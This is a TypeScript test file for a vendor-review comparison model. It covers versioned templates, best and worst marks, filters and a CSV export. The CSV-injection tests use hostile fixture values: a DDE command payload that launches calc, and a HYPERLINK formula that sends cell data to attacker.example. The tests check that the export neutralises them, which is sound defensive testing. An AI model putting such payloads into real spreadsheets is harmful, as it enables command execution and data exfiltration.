// The comparison model (shared/compare): rows aligned across template versions, cells per
// provider, best/worst marks, differences, filters, section coverage, the CSV export and
// determinism. Fixtures are real reviews of the built-in template, scored with scoreReview.
import assert from 'node:assert/strict';
import { buyVsBuild } from '../../shared/domain/cost';
import { describe, test } from 'node:test';
import {
  MAX_COMPARE_PROVIDERS,
  SECTION_COMPARABLE_SHARE,
  answeredEnough,
  comparisonToCsv,
  compareProviders,
  csvField,
  filterComparison,
  neutralizeFormula,
} from '../../shared/compare';
import type { CompareEntry, CompareQuestionRow, CompareSectionRow, Comparison } from '../../shared/compare';
import type { Answer } from '../../shared/domain/review';
import { toAnswerMap } from '../../shared/domain/review';
import { Template } from '../../shared/domain/template';
import type { Question } from '../../shared/domain/template';
import type { Vendor } from '../../shared/domain/vendor';
import { DEFAULT_SCORING_OPTIONS, scoreReview } from '../../shared/scoring';
import { checkTemplate } from '../../shared/templates/check';
import { answer, answersFor, review, vendor } from '../helpers/review-fixtures';
import { parseCsv } from '../helpers/csv';
import { INFRASTRUCTURE_TEMPLATE_V1 } from '../helpers/infrastructure-v1';
import { INFRASTRUCTURE_TEMPLATE } from '../../shared/templates/infrastructure';

// ─────────────────────────────────────────────────────────────────────── fixtures

/**
 * The frozen version 1, except that secrets handling allows N/A: scoring model 2 reads N/A only
 * where the template allows it, and these fixtures mark it N/A on purpose.
 */
const V1: Template = Template.parse({
  ...INFRASTRUCTURE_TEMPLATE_V1,
  sections: INFRASTRUCTURE_TEMPLATE_V1.sections.map((section) => ({
    ...section,
    questions: section.questions.map((q) => (q.id === 'sec_secrets_handling' ? { ...q, allowNa: true } : q)),
  })),
});
const NEW_ENCRYPTION_TEXT = 'Is your data encrypted at rest (data, backups and replicas)?';

/** Version 2: drops sec_vuln_management, adds sec_sbom, rewords sec_encryption_at_rest. */
const V2: Template = Template.parse({
  ...V1,
  version: 2,
  sections: V1.sections.map((section) =>
    section.id !== 'security'
      ? section
      : {
          ...section,
          questions: section.questions.flatMap((q): Question[] => {
            if (q.id === 'sec_vuln_management') {
              return [{
                id: 'sec_sbom',
                kind: 'yesno',
                text: 'Does the provider publish a software bill of materials for what it runs for you?',
                help: '',
                weight: 1,
                optional: false,
                options: [
                  { id: 'yes', label: 'Yes', score: 1 },
                  { id: 'partial', label: 'On request', score: 0.5 },
                  { id: 'no', label: 'No', score: 0 },
                ],
              }];
            }
            return q.id === 'sec_encryption_at_rest' ? [{ ...q, text: NEW_ENCRYPTION_TEXT }] : [q];
          }),
        },
  ),
});

function entry(v: Vendor, template: Template | null, answers: Answer[]): CompareEntry {
  return {
    vendor: v,
    review: template ? review(v.id, template) : null,
    template,
    answers: template ? answers : [],
    score: template ? scoreReview(template, toAnswerMap(answers), v) : null,
  };
}

const ATTACK_COMMENT = 'Asked "Priya", their CISO, twice,\r\nthen again\nby e-mail.';
const FUNNY_NAME = 'Lumen "Logs", Inc.\nEU region';

/** Ledgerly (v1): strong; marks secrets handling N/A; a comment full of CSV specials. */
function ledgerly(): CompareEntry {
  return entry(
    vendor('ledgerly', 'Ledgerly DB', { category: 'database', monthlyCost: 1450, currency: 'EUR', criticalPath: true }),
    V1,
    answersFor(V1, {
      sec_key_management: answer('sec_key_management', 'cmk'),
      sec_secrets_handling: answer('sec_secrets_handling', null, '', true),
      acc_sso: answer('acc_sso', 'partial'),
      acc_mfa: answer('acc_mfa', 'yes', ATTACK_COMMENT),
      cost_build_run_days: null,
    }),
  );
}

/** Burrow (v2): no sec_vuln_management, but sec_sbom; gives the provider no secrets. */
function burrow(): CompareEntry {
  return entry(
    vendor('burrow', 'Burrow MQ', { category: 'message-queue', monthlyCost: 19.5, currency: 'USD' }),
    V2,
    answersFor(V2, {
      sec_key_management: answer('sec_key_management', 'byok'),
      sec_secrets_handling: answer('sec_secrets_handling', 'none_given'),
      acc_sso: answer('acc_sso', 'partial'),
      sec_sbom: answer('sec_sbom', 'yes'),
      sec_incident_history: answer('sec_incident_history', 'disclosed_handled'),
      sec_incident_details: answer('sec_incident_details', '@SUM(1+1)*cmd|" /C calc"!A0'),
      cost_build_run_days: null,
    }),
  );
}

/**
 * Lumen (v1): no encryption at rest, so sec_key_management is hidden (an answer is left behind
 * on it); no SSO; one security question unanswered; a name full of CSV specials.
 */
function lumen(): CompareEntry {
  return entry(
    vendor('lumen', FUNNY_NAME, { category: 'logging', monthlyCost: null }),
    V1,
    answersFor(V1, {
      sec_encryption_at_rest: answer('sec_encryption_at_rest', 'no'),
      sec_key_management: answer('sec_key_management', 'byok', 'left behind'),
      acc_sso: answer('acc_sso', 'no'),
      sec_pentest: null,
      cost_build_run_days: null,
    }),
  );
}

const fixtures = (): CompareEntry[] => [ledgerly(), burrow(), lumen()];

function section(c: Comparison, id: string): CompareSectionRow {
  const found = c.sections.find((s) => s.sectionId === id);
  assert.ok(found, `section ${id}`);
  return found;
}

function row(c: Comparison, id: string): CompareQuestionRow {
  const found = c.sections.flatMap((s) => s.questions).find((q) => q.questionId === id);
  assert.ok(found, `question ${id}`);
  return found;
}

const questionIds = (c: Comparison) => c.sections.flatMap((s) => s.questions.map((q) => q.questionId));

// ─────────────────────────────────────────────────────────────────────── the model

describe('compareProviders', () => {
  test('the fixtures: version 2 is a sound template that drops one question and adds one', () => {
    assert.deepEqual(checkTemplate(V2), []);
    const ids = (t: Template) => new Set(t.sections.flatMap((s) => s.questions.map((q) => q.id)));
    assert.deepEqual([...ids(V1)].filter((id) => !ids(V2).has(id)), ['sec_vuln_management']);
    assert.deepEqual([...ids(V2)].filter((id) => !ids(V1).has(id)), ['sec_sbom']);
  });

  test('columns follow the given order and carry the summary', () => {
    const entries = fixtures();
    const c = compareProviders(entries);
    assert.deepEqual(c.columns.map((col) => col.id), ['ledgerly', 'burrow', 'lumen']);
    const [l, b, m] = c.columns;
    assert.equal(l!.name, 'Ledgerly DB');
    assert.equal(l!.category, 'database');
    assert.equal(l!.overall, entries[0]!.score!.overall);
    assert.equal(l!.tier, entries[0]!.score!.tier);
    assert.equal(l!.state, 'scored');
    assert.equal(l!.completion, entries[0]!.score!.completion);
    assert.deepEqual(l!.template, { id: V1.id, version: 1 });
    assert.equal(l!.fee, '1,450 EUR per month');
    assert.match(l!.buyVsBuild, /no engineer day rate is set in Settings/);
    assert.deepEqual(b!.template, { id: V1.id, version: 2 });
    assert.match(b!.fee ?? '', / USD per /);
    assert.equal(m!.name, FUNNY_NAME);
    assert.equal(m!.knockouts, 1, 'no encryption at rest is a knock-out');
    assert.equal(m!.fee, null);
    const rated = compareProviders(entries, { dayRate: { amount: 500, currency: 'EUR' } });
    assert.equal(rated.columns[0]!.buyVsBuild, buyVsBuild(entries[0]!.vendor, { amount: 500, currency: 'EUR' }).sentence, 'the same sentence as the provider page');
  });

  test('rows are the union of both template versions, in the first provider\'s order', () => {
    const c = compareProviders(fixtures());
    assert.deepEqual(c.sections.map((s) => s.sectionId), V1.sections.map((s) => s.id));
    assert.equal(section(c, 'access-granularity').title, 'Access granularity');
    const security = section(c, 'security').questions.map((q) => q.questionId);
    const v1Security = V1.sections[0]!.questions.map((q) => q.id);
    assert.deepEqual(security, [...v1Security, 'sec_sbom'], 'v1 order, then the question v2 adds');
    // Every question of either version appears exactly once.
    const all = questionIds(c);
    assert.equal(new Set(all).size, all.length);
    const union = new Set([V1, V2].flatMap((t) => t.sections.flatMap((s) => s.questions.map((q) => q.id))));
    assert.deepEqual(new Set(all), union);
  });

  test('order follows whichever provider comes first', () => {
    const c = compareProviders([burrow(), ledgerly()]);
    const security = section(c, 'security').questions.map((q) => q.questionId);
    const v2Security = V2.sections[0]!.questions.map((q) => q.id);
    assert.deepEqual(security, [...v2Security, 'sec_vuln_management']);
  });

  test('question text comes from the newest template version that asks it', () => {
    assert.equal(row(compareProviders(fixtures()), 'sec_encryption_at_rest').text, NEW_ENCRYPTION_TEXT);
    assert.equal(row(compareProviders([ledgerly(), lumen()]), 'sec_encryption_at_rest').text, V1.sections[0]!.questions[0]!.text);
    assert.equal(row(compareProviders(fixtures()), 'sec_vuln_management').text, V1.sections[0]!.questions.find((q) => q.id === 'sec_vuln_management')!.text);
  });

  test('a question one version lacks is "not asked", both ways', () => {
    const c = compareProviders(fixtures());
    const dropped = row(c, 'sec_vuln_management');
    assert.deepEqual(dropped.cells.map((x) => x.status), ['answered', 'not_asked', 'answered']);
    assert.equal(dropped.cells[1]!.label, 'Not asked');
    assert.equal(dropped.cells[1]!.score, null);
    assert.equal(dropped.cells[1]!.pointsLost, null);
    const added = row(c, 'sec_sbom');
    assert.deepEqual(added.cells.map((x) => x.status), ['not_asked', 'answered', 'not_asked']);
    assert.deepEqual(added.cells.map((x) => x.label), ['Not asked', 'Yes', 'Not asked']);
    assert.deepEqual(added.cells.map((x) => x.providerId), ['ledgerly', 'burrow', 'lumen']);
  });

  test('a question its showWhen hides is "hidden", and the answer left behind is not shown', () => {
    const cell = row(compareProviders(fixtures()), 'sec_key_management').cells[2]!;
    assert.deepEqual(cell, {
      providerId: 'lumen',
      status: 'hidden',
      label: 'Not shown',
      score: null,
      pointsLost: null,
      knockout: null,
      comment: '',
    });
  });

  test('cells: labels, scores, points lost, knock-outs, N/A and comments', () => {
    const entries = fixtures();
    const c = compareProviders(entries);
    const key = row(c, 'sec_key_management').cells;
    assert.equal(key[0]!.status, 'answered');
    assert.equal(key[0]!.label, 'Customer-managed keys in the provider\'s KMS');
    assert.equal(key[0]!.score, 0.8);
    const loss = entries[0]!.score!.explanation.find((l) => l.questionId === 'sec_key_management')!;
    assert.ok(loss.pointsLost > 0);
    assert.equal(key[0]!.pointsLost, loss.pointsLost);
    assert.equal(key[1]!.score, 1);
    assert.equal(key[1]!.pointsLost, 0, 'a full-marks answer loses nothing');

    const secrets = row(c, 'sec_secrets_handling').cells;
    assert.deepEqual(secrets.map((x) => x.status), ['na', 'na', 'answered']);
    assert.equal(secrets[0]!.label, 'Not applicable');
    assert.equal(secrets[1]!.label, 'We give them no secrets');
    assert.equal(secrets[0]!.score, null);
    assert.equal(secrets[0]!.pointsLost, null);

    const atRest = row(c, 'sec_encryption_at_rest').cells[2]!;
    assert.equal(atRest.label, 'No');
    assert.equal(atRest.score, 0);
    assert.equal(atRest.knockout, 'medium');

    assert.equal(row(c, 'acc_mfa').cells[0]!.comment, ATTACK_COMMENT.trim());

    const pentest = row(c, 'sec_pentest').cells[2]!;
    assert.equal(pentest.status, 'unanswered');
    assert.equal(pentest.label, 'Not answered');
    assert.equal(pentest.score, null);

    const details = row(c, 'sec_incident_details').cells;
    assert.deepEqual(details.map((x) => x.status), ['hidden', 'answered', 'hidden']);
    assert.equal(details[1]!.score, null, 'informational answers have no score');
    assert.equal(details[1]!.pointsLost, null);
  });

  test('best and worst: a clear winner and loser', () => {
    const r = row(compareProviders(fixtures()), 'sec_key_management');
    // Ledgerly 0.8, Burrow 1, Lumen hidden (no score): two scores that differ.
    assert.deepEqual(r.best, ['burrow']);
    assert.deepEqual(r.worst, ['ledgerly']);
  });

  test('best and worst: a tie for best marks both', () => {
    const r = row(compareProviders(fixtures()), 'acc_sso');
    assert.deepEqual(r.cells.map((x) => x.score), [0.5, 0.5, 0]);
    assert.deepEqual(r.best, ['ledgerly', 'burrow']);
    assert.deepEqual(r.worst, ['lumen']);
  });

  test('best and worst: all equal, or fewer than two scores, marks nobody', () => {
    const c = compareProviders(fixtures());
    const equal = row(c, 'acc_mfa');
    assert.deepEqual(equal.cells.map((x) => x.score), [1, 1, 1]);
    assert.deepEqual([equal.best, equal.worst], [[], []]);
    const single = row(c, 'sec_sbom');
    assert.deepEqual([single.best, single.worst], [[], []]);
    const none = row(c, 'cost_build_run_days');
    assert.deepEqual([none.best, none.worst], [[], []]);
  });

  test('best and worst over section scores', () => {
    const c = compareProviders(fixtures());
    const access = section(c, 'access-granularity');
    assert.ok(access.cells[0]!.score! > access.cells[2]!.score!);
    assert.deepEqual(access.best, ['ledgerly', 'burrow']);
    assert.deepEqual(access.worst, ['lumen']);
    const maintenance = section(c, 'maintenance-windows');
    assert.deepEqual(maintenance.cells.map((x) => x.score), [100, 100, 100]);
    assert.deepEqual([maintenance.best, maintenance.worst, maintenance.differs], [[], [], false]);
  });

  test('differs: by answer, with "not asked" against an answer counting and "nobody answered" not', () => {
    const c = compareProviders(fixtures());
    assert.equal(row(c, 'acc_mfa').differs, false, 'the same answer (comments do not count)');
    assert.equal(row(c, 'acc_sso').differs, true);
    assert.equal(row(c, 'sec_vuln_management').differs, true, 'one provider was not asked');
    assert.equal(row(c, 'sec_sbom').differs, true);
    assert.equal(row(c, 'cost_build_run_days').differs, false, 'nobody answered');
    assert.equal(row(c, 'sec_secrets_handling').differs, true, 'N/A, an N/A option and an answer');
    assert.equal(section(c, 'security').differs, true);
    assert.equal(section(c, 'maintenance-windows').differs, false);
  });

  test('section covers: what each section score rests on', () => {
    const entries = fixtures();
    const c = compareProviders(entries);
    const security = section(c, 'security');
    // v1 security: 12 questions, 3 of them optional → 9 counted; Lumen's key question is hidden
    // (8) and its pentest question unanswered (7 answered).
    assert.deepEqual(security.cells.map((x) => x.covers), [
      { answered: 9, total: 9, asked: true },
      { answered: 9, total: 9, asked: true }, // v2: one dropped, one added
      { answered: 7, total: 8, asked: true },
    ]);
    entries.forEach((e, i) => {
      const scored = e.score!.sections.find((s) => s.sectionId === 'security')!;
      assert.equal(security.cells[i]!.score, scored.score);
      assert.deepEqual(security.cells[i]!.covers, { answered: scored.answered, total: scored.total, asked: true });
    });
  });

  test('a provider without a review is "—" everywhere (not "Not asked"), says why, and is never marked', () => {
    const newcomer = entry(vendor('newcomer', 'Newcomer'), null, []);
    const c = compareProviders([ledgerly(), newcomer]);
    const col = c.columns[1]!;
    assert.deepEqual(
      [col.state, col.overall, col.tier, col.completion, col.knockouts, col.template, col.noReview],
      ['not_started', null, null, null, 0, null, 'No review started'],
    );
    assert.equal(c.columns[0]!.noReview, null);
    for (const s of c.sections) {
      assert.deepEqual(s.cells[1], {
        providerId: 'newcomer',
        score: null,
        covers: { answered: 0, total: 0, asked: false },
        tooLittleAnswered: false,
        reviewTooLittleAnswered: false,
      });
      assert.deepEqual([s.best, s.worst], [[], []]);
      for (const q of s.questions) assert.deepEqual([q.cells[1]!.status, q.cells[1]!.label], ['no_review', '—']);
    }
    // An export knows more: a review in progress, not decided as of the date.
    const note = 'No decided review as of 2026-12-05 (a review is in progress since 2026-11-02, in review on 2026-12-05)';
    const inReview = compareProviders([ledgerly(), { ...newcomer, noReviewNote: note }]);
    assert.equal(inReview.columns[1]!.noReview, note);
    const csv = parseCsv(comparisonToCsv(inReview).slice(1));
    const cells = (title: string) => csv.find((r) => r[2] === title)!.slice(3, 5);
    assert.equal(cells('Overall score')[1], `Not scored: no decided review as of 2026-12-05 (a review is in progress since 2026-11-02, in review on 2026-12-05)`);
    assert.equal(cells('Template')[1], '—');
    assert.equal(cells('Knock-outs')[1], '—');
    for (const r of csv.slice(1)) assert.notEqual(r[4], 'Not asked', `${r[0]} / ${r[2]}: no review is not "Not asked"`);
    assert.ok(csv.filter((r) => r[2] === 'Section score').every((r) => r[4] === '—'), 'section scores read —');
  });

  test('2 to 6 distinct providers', () => {
    assert.throws(() => compareProviders([ledgerly()]), RangeError);
    const many = Array.from({ length: MAX_COMPARE_PROVIDERS + 1 }, (_, i) => entry(vendor(`v${i}`, `V${i}`), null, []));
    assert.throws(() => compareProviders(many), RangeError);
    assert.doesNotThrow(() => compareProviders(many.slice(0, MAX_COMPARE_PROVIDERS)));
    assert.throws(() => compareProviders([ledgerly(), ledgerly()]), /only once/);
  });

  test('deterministic, and the input is left alone', () => {
    const entries = fixtures();
    const before = structuredClone(entries);
    const a = compareProviders(entries);
    const b = compareProviders(fixtures());
    assert.deepEqual(a, b);
    assert.equal(JSON.stringify(a), JSON.stringify(b));
    assert.equal(comparisonToCsv(a), comparisonToCsv(b));
    assert.deepEqual(entries, before);
  });
});

// ─────────────────────────────────────────────────────────────────────── enough answered to compare

/** Every question of `template` left unanswered, except `keep` (best answers). */
function onlyAnswered(template: Template, keep: readonly string[]): Answer[] {
  const unanswered = template.sections.flatMap((s) => s.questions.filter((q) => !keep.includes(q.id)).map((q) => [q.id, null]));
  return answersFor(template, Object.fromEntries(unanswered));
}

/** Barely reviewed (v1): one security question answered, with the best answer (a section score of 100). */
function barely(): CompareEntry {
  return entry(vendor('barely', 'Barely Reviewed'), V1, onlyAnswered(V1, ['sec_encryption_in_transit']));
}

describe('section marks need enough answers', () => {
  test('the threshold is the scoring\'s completion threshold: 80 %, exactly 80 % is enough', () => {
    assert.equal(SECTION_COMPARABLE_SHARE, DEFAULT_SCORING_OPTIONS.completionThreshold);
    assert.equal(SECTION_COMPARABLE_SHARE, 0.8);
    assert.deepEqual(
      [answeredEnough(4, 5), answeredEnough(3, 5), answeredEnough(8, 10), answeredEnough(7, 9), answeredEnough(8, 9), answeredEnough(0, 0)],
      [true, false, true, false, true, true],
    );
  });

  test('decided as scoreReview decides a review complete, for every count up to 20', () => {
    const base = V1.sections[0]!;
    const yesno = base.questions.find((q) => q.id === 'sec_encryption_in_transit')!;
    for (let total = 1; total <= 20; total++) {
      const questions = Array.from({ length: total }, (_, i) => ({ ...yesno, id: `q${i}` }));
      const template = Template.parse({ ...V1, sections: [{ ...base, flags: [], questions }] });
      for (let answered = 0; answered <= total; answered++) {
        const answers = toAnswerMap(questions.slice(0, answered).map((q) => answer(q.id, 'yes')));
        const state = scoreReview(template, answers, vendor('v', 'V')).state;
        assert.equal(answeredEnough(answered, total), state === 'scored', `${answered} of ${total}`);
      }
    }
  });

  test('a barely answered provider never gets Best, though its 100.0 is the highest score', () => {
    const c = compareProviders([ledgerly(), lumen(), barely()]);
    const security = section(c, 'security');
    const [ledger, lumenCell, barelyCell] = security.cells;
    assert.equal(barelyCell!.score, 100);
    // 8 counted: the key question shows only once encryption at rest is answered.
    assert.deepEqual(barelyCell!.covers, { answered: 1, total: 8, asked: true });
    assert.equal(barelyCell!.tooLittleAnswered, true);
    assert.ok(lumenCell!.score! < ledger!.score! && ledger!.score! < 100, 'the providers answered enough score lower');
    assert.deepEqual([ledger!.tooLittleAnswered, lumenCell!.tooLittleAnswered], [false, false]);
    // Best and worst among the two providers answered enough only.
    assert.deepEqual(security.best, ['ledgerly']);
    assert.deepEqual(security.worst, ['lumen']);
    for (const s of c.sections) {
      assert.ok(s.cells[2]!.tooLittleAnswered, `${s.sectionId}: barely answered everywhere`);
      assert.ok(!s.best.includes('barely') && !s.worst.includes('barely'), s.sectionId);
    }
    // Its answers are still compared question by question: an answer is an answer.
    assert.ok(row(c, 'sec_encryption_in_transit').cells[2]!.status === 'answered');
  });

  test('a barely answered provider never gets Best on a one-question section it answered in full', () => {
    // The built-in template's Cost section asks one question: answered, the section is 1 of 1,
    // but the review as a whole (2 of 61 questions) is far below the bar a review needs for a tier.
    const t = INFRASTRUCTURE_TEMPLATE;
    const one = entry(vendor('one', 'OneAnswer Ltd'), t, onlyAnswered(t, ['sec_encryption_at_rest', 'cost_predictable']));
    const capped = entry(vendor('capped', 'Capped'), t, answersFor(t, { cost_predictable: answer('cost_predictable', 'usage_capped') }));
    const uncapped = entry(vendor('uncapped', 'Uncapped'), t, answersFor(t, { cost_predictable: answer('cost_predictable', 'usage_uncapped') }));
    const c = compareProviders([one, capped, uncapped]);
    const cost = section(c, 'cost');
    assert.deepEqual(cost.cells[0]!.covers, { answered: 1, total: 1, asked: true }, 'the section itself is answered in full');
    assert.equal(cost.cells[0]!.score, 100, 'and scores the most');
    assert.ok(c.columns[0]!.completion! < SECTION_COMPARABLE_SHARE, `the review is ${c.columns[0]!.completion} answered`);
    assert.deepEqual([cost.cells[0]!.tooLittleAnswered, cost.cells[0]!.reviewTooLittleAnswered], [true, true], 'not compared: the review is too little answered');
    assert.deepEqual([cost.cells[1]!.reviewTooLittleAnswered, cost.cells[2]!.reviewTooLittleAnswered], [false, false], 'complete reviews are compared');
    assert.deepEqual([cost.best, cost.worst], [['capped'], ['uncapped']], 'best and worst among the complete reviews only');
    for (const s of c.sections) assert.ok(!s.best.includes('one') && !s.worst.includes('one'), `${s.sectionId}: never marked`);
    // The answer is still compared as an answer.
    assert.deepEqual(row(c, 'cost_predictable').best, ['one']);
    // The CSV says why the section is not compared.
    const csv = parseCsv(comparisonToCsv(c).slice(1));
    const costRow = csv.find((r) => r[0] === 'Cost' && r[2] === 'Section score')!;
    assert.match(costRow[3]!, /^Too little answered \(1 of 1 answered; the review \d+% answered\)$/, costRow[3]);
  });

  test('a complete provider gets Best against another complete one; against a barely answered one, nobody is marked', () => {
    const complete = compareProviders([lumen(), ledgerly()]);
    assert.deepEqual(section(complete, 'access-granularity').best, ['ledgerly']);
    assert.deepEqual(section(complete, 'access-granularity').worst, ['lumen']);
    const lopsided = compareProviders([ledgerly(), barely()]);
    for (const s of lopsided.sections) assert.deepEqual([s.best, s.worst], [[], []], s.sectionId);
    assert.ok(section(lopsided, 'security').differs, 'the section still counts as differing');
  });

  test('a section with 80 % answered is compared; one question fewer and it is not', () => {
    // v1 security counts 9 questions (3 optional, key management shown): 8 of 9 is 88.9 %, 7 of 9 is 77.8 %.
    const skip = (ids: string[]) => entry(vendor(`skip${ids.length}`, `Skips ${ids.length}`), V1, answersFor(V1, Object.fromEntries(ids.map((id) => [id, null]))));
    const c = compareProviders([skip(['sec_pentest']), skip(['sec_pentest', 'sec_certifications']), burrow()]);
    const security = section(c, 'security');
    assert.deepEqual(security.cells.map((x) => [x.covers.answered, x.covers.total, x.tooLittleAnswered]), [
      [8, 9, false],
      [7, 9, true],
      [9, 9, false],
    ]);
    assert.ok(![...security.best, ...security.worst].includes('skip2'));
    assert.ok([...security.best, ...security.worst].includes('skip1'));
  });
});

// ─────────────────────────────────────────────────────────────────────── filters

describe('filterComparison', () => {
  const c = compareProviders(fixtures());

  test('differencesOnly drops rows where all agree and keeps "not asked" rows', () => {
    const f = filterComparison(c, { differencesOnly: true });
    const ids = questionIds(f);
    assert.ok(!ids.includes('acc_mfa'));
    assert.ok(!ids.includes('cost_build_run_days'));
    for (const id of ['sec_vuln_management', 'sec_sbom', 'acc_sso', 'sec_key_management']) assert.ok(ids.includes(id), id);
    assert.ok(f.sections.every((s) => s.questions.every((q) => q.differs)));
    assert.ok(!f.sections.some((s) => s.sectionId === 'maintenance-windows'), 'a section with nothing left is dropped');
    assert.deepEqual(f.columns, c.columns);
  });

  test('text matches question text and id, case-insensitively', () => {
    assert.deepEqual(questionIds(filterComparison(c, { text: 'ACC_MFA' })), ['acc_mfa']);
    assert.deepEqual(questionIds(filterComparison(c, { text: 'single SIGN-ON' })), ['acc_sso']);
    const byText = filterComparison(c, { text: '  bill of materials ' });
    assert.deepEqual(byText.sections.map((s) => s.sectionId), ['security']);
    assert.deepEqual(questionIds(byText), ['sec_sbom']);
    assert.deepEqual(filterComparison(c, { text: 'no such words anywhere' }).sections, []);
    assert.deepEqual(filterComparison(c, { text: '   ' }), c);
  });

  test('a section whose title matches stays, even without question rows', () => {
    const f = filterComparison(c, { differencesOnly: true, text: 'Maintenance windows' });
    const kept = f.sections.find((s) => s.sectionId === 'maintenance-windows');
    assert.ok(kept);
    assert.deepEqual(kept.questions, []);
    assert.deepEqual(kept.cells, section(c, 'maintenance-windows').cells);
  });

  test('filtering does not change the comparison it is given', () => {
    const before = structuredClone(c);
    filterComparison(c, { differencesOnly: true, text: 'sec' });
    assert.deepEqual(c, before);
  });
});

// ─────────────────────────────────────────────────────────────────────── CSV

describe('comparisonToCsv', () => {
  const c = compareProviders(fixtures());
  const csv = comparisonToCsv(c);
  const records = parseCsv(csv.slice(1));
  const header = records[0]!;
  const find = (title: string, id = '') => records.find((r) => r[2] === title && r[1] === id)!;
  const questionRecord = (id: string) => records.find((r) => r[1] === id)!;

  test('a UTF-8 BOM first, CRLF line endings, one answer and one points column per provider', () => {
    assert.equal(csv.charCodeAt(0), 0xfeff);
    assert.ok(csv.endsWith('\r\n'));
    assert.deepEqual(header, [
      'Section',
      'Question ID',
      'Question',
      'Ledgerly DB',
      'Burrow MQ',
      FUNNY_NAME,
      'Ledgerly DB points lost',
      'Burrow MQ points lost',
      `${FUNNY_NAME} points lost`,
    ]);
    for (const r of records) assert.equal(r.length, 3 + 2 * c.columns.length);
  });

  test('a score summary, then the section scores, then every question row', () => {
    const titles = records.slice(1, 8).map((r) => r[2]);
    assert.deepEqual(titles, ['Overall score', 'Tier', 'Completion', 'Knock-outs', 'Fee', 'Buy or build', 'Template']);
    const overall = find('Overall score');
    assert.deepEqual(overall.slice(3, 6), c.columns.map((col) => (Math.round(col.overall! * 10) / 10).toFixed(1)));
    assert.deepEqual(find('Knock-outs').slice(3, 6), ['0', '0', '1']);
    assert.deepEqual(find('Fee').slice(3, 6), ['1,450 EUR per month', '19.50 USD per month', 'Not recorded']);
    assert.deepEqual(find('Template').slice(3, 6), ['infrastructure-provider v1', 'infrastructure-provider v2', 'infrastructure-provider v1']);
    const sectionRows = records.slice(8, 8 + c.sections.length);
    assert.deepEqual(sectionRows.map((r) => r[0]), c.sections.map((s) => s.title));
    assert.ok(sectionRows.every((r) => r[2] === 'Section score'));
    assert.equal(sectionRows[0]![5], `${(Math.round(section(c, 'security').cells[2]!.score! * 10) / 10).toFixed(1)} (7 of 8 answered)`);
    assert.equal(records.length, 1 + 7 + c.sections.length + questionIds(c).length);
    assert.deepEqual(records.slice(8 + c.sections.length).map((r) => r[1]), questionIds(c));
  });

  test('question rows: labels as the model has them, markers, points lost', () => {
    const vuln = questionRecord('sec_vuln_management');
    assert.equal(vuln[0], 'Security');
    assert.equal(vuln[4], 'Not asked');
    assert.equal(vuln[7], '');
    assert.deepEqual(questionRecord('sec_key_management').slice(3, 6), [
      'Customer-managed keys in the provider\'s KMS',
      'We hold them: bring/hold your own key in our own KMS',
      'Not shown',
    ]);
    const keyLoss = row(c, 'sec_key_management').cells[0]!.pointsLost!;
    assert.equal(questionRecord('sec_key_management')[6], String(Math.round(keyLoss * 100) / 100));
    assert.equal(questionRecord('sec_key_management')[7], '0');
    assert.deepEqual(questionRecord('sec_secrets_handling').slice(3, 5), ['Not applicable', 'We give them no secrets [N/A]']);
    assert.equal(questionRecord('sec_encryption_at_rest')[5], 'No [Knock-out: Medium]');
  });

  test('quotes, commas and line breaks in a name and a comment survive the round trip', () => {
    assert.equal(header[5], FUNNY_NAME);
    assert.equal(questionRecord('acc_mfa')[3], `Yes, we can enforce it\nComment: ${ATTACK_COMMENT}`);
    // The raw text quotes such fields and doubles the quotes inside.
    assert.ok(csv.includes('"Lumen ""Logs"", Inc.\nEU region"'));
  });

  test('formula injection: cells starting with = + - @ tab or CR get a leading apostrophe', () => {
    assert.equal(questionRecord('sec_incident_details')[4], `'@SUM(1+1)*cmd|" /C calc"!A0`);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      assert.equal(neutralizeFormula(`${start}1+1`), `'${start}1+1`);
    }
    assert.equal(neutralizeFormula('Yes'), 'Yes');
    assert.equal(neutralizeFormula('1 + 1 = 2'), '1 + 1 = 2');
    assert.equal(csvField('=HYPERLINK("http://x")'), `"'=HYPERLINK(""http://x"")"`);
    assert.equal(csvField('\rcalc'), `"'\rcalc"`);

    const evil = entry(vendor('evil', '=HYPERLINK("http://attacker.example/?"&A1,"Click")'), V1, answersFor(V1));
    const out = parseCsv(comparisonToCsv(compareProviders([ledgerly(), evil])).slice(1));
    assert.equal(out[0]![4], `'=HYPERLINK("http://attacker.example/?"&A1,"Click")`);
    assert.equal(out[0]![6], `'=HYPERLINK("http://attacker.example/?"&A1,"Click") points lost`);
    for (const r of out) for (const field of r) assert.ok(!/^[=+\-@\t\r]/.test(field), JSON.stringify(field));
  });

  test('a section answered too little reads "Too little answered", with no score', () => {
    const out = parseCsv(comparisonToCsv(compareProviders([ledgerly(), barely()])).slice(1));
    const security = out.find((r) => r[0] === 'Security' && r[2] === 'Section score')!;
    assert.match(security[3]!, /^\d+\.\d \(9 of 9 answered\)$/);
    assert.equal(security[4], 'Too little answered (1 of 8 answered; the review 2% answered)');
  });

  test('a filtered comparison exports only the rows it kept', () => {
    const f = filterComparison(c, { text: 'acc_mfa' });
    const out = parseCsv(comparisonToCsv(f).slice(1));
    assert.deepEqual(out.slice(1 + 7 + f.sections.length).map((r) => r[1]), ['acc_mfa']);
  });
});

test('every CSV field is quoted, so a ";" locale cannot split a cell into a formula', () => {
  assert.equal(csvField('ok;=1+1'), '"ok;=1+1"');
  assert.equal(csvField('tab\there'), '"tab\there"');
  assert.equal(csvField('=HYPERLINK("x")'), `"'=HYPERLINK(""x"")"`);
  assert.equal(csvField('plain'), '"plain"');
});
